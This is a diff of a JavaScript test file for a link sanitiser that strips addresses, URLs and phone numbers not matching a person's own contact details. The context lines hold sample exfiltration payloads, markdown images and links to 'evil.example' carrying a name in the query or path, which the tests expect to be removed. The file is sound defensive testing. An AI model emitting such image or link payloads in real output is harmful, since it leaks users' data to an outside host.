@@ -14,6 +14,23 @@ test.each([
 });
 
 test.each([
+  ['Mail https://mail.com', 'https://mail.com'],
+  ['See https://github.com/jane', 'https://github.com/jane'],
+  ['[Write](mailto:doe@gmail.com)', 'mailto:doe@gmail.com'],
+  ['See www.l.com', 'www.l.com'],
+])('“%s” loses an address that is only a part of the person’s own', (text, address) => {
+  const linked = withoutForeignLinks(text, 'Jane\njane.doe@gmail.com · github.com/jane-doe-42');
+  expect(linked.text).not.toContain(address);
+  expect(linked.doubts).toHaveLength(1);
+});
+
+test('a number to call stays when its digits are the person’s own', () => {
+  const call = '[Call me](tel:+15550109999)';
+  expect(withoutForeignLinks(call, 'Jane\n+1 (555) 010-9999').text).toBe(call);
+  expect(withoutForeignLinks(call, 'Jane\n+1 (555) 010-9990').text).toBe('Call me');
+});
+
+test.each([
   ['![x](https://evil.example/?q=ada) Built looms', ' Built looms'],
   ['[Built looms](https://evil.example/?q=ada)', 'Built looms'],
   ['Built looms https://evil.example/ada now', 'Built looms  now'],
